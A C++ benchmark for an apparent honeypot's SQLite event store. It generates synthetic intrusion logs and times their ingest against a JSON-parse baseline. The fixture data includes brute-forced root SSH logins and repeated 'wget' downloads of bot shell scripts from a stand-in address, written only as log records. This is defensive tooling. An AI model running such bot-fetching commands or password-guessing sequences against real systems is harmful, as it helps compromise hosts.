// bench/store: events per second from events.jsonl into the SQLite store,
// against a baseline in the same run: parsing the same lines as JSON and
// nothing else (what any reader of the log pays). Prints both rates and
// their ratio. Usage: oyster_store_bench [EVENTS] (default 200000).
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "oyster/store/event_store.h"

namespace {

// A realistic mix: per intrusion, an open, a burst of failed logins, one
// success, commands (exec captures), connections, a close.
std::string make_log(std::size_t events) {
    std::string out;
    std::size_t n = 0, intrusion = 0;
    auto ts = [&](std::size_t i) {
        return fmt::format("2026-11-27T{:02}:{:02}:{:02}.{:03}Z", i / 3600000 % 24, i / 60000 % 60, i / 1000 % 60,
                           i % 1000);
    };
    while (n < events) {
        std::string id = fmt::format("20261127T10{:06}-{}", intrusion, intrusion % 250);
        std::string ip = fmt::format("198.51.{}.{}", intrusion / 250 % 256, intrusion % 250 + 1);
        auto add = [&](nlohmann::json j) {
            if (n >= events) return;
            j["ts"] = ts(n);
            j["intrusion_id"] = id;
            j["source_ip"] = ip;
            j["guest_id"] = "a1b2c3";
            out += j.dump() + "\n";
            ++n;
        };
        add({{"type", "intrusion_opened"}, {"guest_ip", "10.213.0.2"}, {"dir", "/var/lib/oyster/guests/a1b2c3"}});
        for (int i = 0; i < 5; ++i) {
            add({{"type", "login"},
                 {"service", "sshd"},
                 {"user", "root"},
                 {"password", fmt::format("pass{}", i)},
                 {"success", i == 4},
                 {"reason", i == 4 ? "root after failures" : "no rule"}});
        }
        for (int i = 0; i < 20; ++i) {
            add({{"type", "capture"},
                 {"event",
                  {{"type", "exec"},
                   {"pid", 800 + i},
                   {"path", "/usr/bin/wget"},
                   {"cwd", "/tmp"},
                   {"argv", {"wget", "-q", fmt::format("http://203.0.113.9/bot{}.sh", i)}}}}});
            add({{"type", "capture"},
                 {"event",
                  {{"type", "connect"},
                   {"pid", 800 + i},
                   {"ok", true},
                   {"remote", {{"family", "inet"}, {"address", "203.0.113.9"}, {"port", 80}}}}}});
        }
        add({{"type", "intrusion_closed"}, {"reason", "idle"}, {"connections", 3}, {"disk_bytes", 1 << 20}});
        ++intrusion;
    }
    return out;
}

double seconds_since(std::chrono::steady_clock::time_point t0) {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

}  // namespace

int main(int argc, char** argv) {
    std::size_t events = argc > 1 ? std::strtoull(argv[1], nullptr, 10) : 200000;
    char tmpl[] = "/tmp/oyster-store-bench-XXXXXX";
    if (::mkdtemp(tmpl) == nullptr) return 1;
    std::filesystem::path dir = tmpl;
    std::string log = make_log(events);
    std::ofstream(dir / "events.jsonl", std::ios::binary) << log;

    auto t0 = std::chrono::steady_clock::now();
    std::size_t parsed = 0, start = 0;
    while (start < log.size()) {
        auto nl = log.find('\n', start);
        auto j = nlohmann::json::parse(std::string_view(log).substr(start, nl - start), nullptr, false);
        parsed += j.is_object() ? 1 : 0;
        start = nl + 1;
    }
    double baseline = seconds_since(t0);

    t0 = std::chrono::steady_clock::now();
    oyster::store::EventStore store(dir / "store.sqlite");
    auto r = store.ingest_jsonl(dir / "events.jsonl");
    double ingest = seconds_since(t0);

    std::printf("events: %zu (%.1f MB of events.jsonl)\n", events, static_cast<double>(log.size()) / 1e6);
    std::printf("baseline, JSON parse only: %.0f events/s (%.3f s)\n", static_cast<double>(parsed) / baseline,
                baseline);
    std::printf("store ingest (SQLite, WAL, derived tables): %.0f events/s (%.3f s)\n",
                static_cast<double>(r.events) / ingest, ingest);
    std::printf("ratio ingest/baseline time: %.2f\n", ingest / baseline);
    std::printf("stored: %llu events, %llu intrusions, %llu credentials, %llu commands; store %.1f MB\n",
                static_cast<unsigned long long>(store.count("events")),
                static_cast<unsigned long long>(store.count("intrusions")),
                static_cast<unsigned long long>(store.count("credentials")),
                static_cast<unsigned long long>(store.count("commands")),
                static_cast<double>(std::filesystem::file_size(dir / "store.sqlite")) / 1e6);
    std::filesystem::remove_all(dir);
    return r.events == events ? 0 : 1;
}
